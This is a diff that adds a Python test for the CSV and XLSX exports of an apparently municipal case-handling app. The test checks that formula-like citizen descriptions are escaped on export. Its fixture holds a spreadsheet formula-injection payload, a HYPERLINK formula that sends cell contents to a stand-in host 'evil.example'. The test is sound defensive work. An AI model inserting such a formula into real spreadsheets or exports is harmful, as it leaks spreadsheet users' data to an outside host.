@@ -139,3 +139,24 @@ def test_the_daily_briefing_says_the_day_s_figures_and_what_is_overdue(city: Cit
     assert f"当前超期 Overdue now: {figures['overdue']}" in text
     assert overdue and f"#{overdue[0]['id']}" in text  # the most overdue case is named
     assert "Gi*" in text
+
+
+def test_a_citizen_s_text_is_no_formula_in_an_export() -> None:
+    """A description `=HYPERLINK(…)` stays text: in the CSV behind an apostrophe (as spreadsheet programs
+    read it), in the XLSX as a string cell rather than a formula."""
+    from zoneinfo import ZoneInfo
+
+    from openpyxl import load_workbook
+
+    from wecity.insight.exports import rows_of, to_csv, to_xlsx
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击查看照片")'
+    header, rows = rows_of("cases", [{"id": 7, "status": "dispatched", "description": evil},
+                                     {"id": 8, "status": "dispatched", "description": "-5 度结冰，+86 电话"}],
+                           "zh_CN", ZoneInfo("Asia/Shanghai"))
+    table = list(csv.reader(io.StringIO(to_csv(header, rows).decode("utf-8-sig"))))
+    assert table[1][-1] == "'" + evil and table[2][-1] == "'-5 度结冰，+86 电话"
+    sheet = load_workbook(io.BytesIO(to_xlsx("cases", header, rows))).active
+    assert sheet is not None
+    cell = sheet.cell(row=2, column=len(header))
+    assert cell.value == evil and cell.data_type == "s"
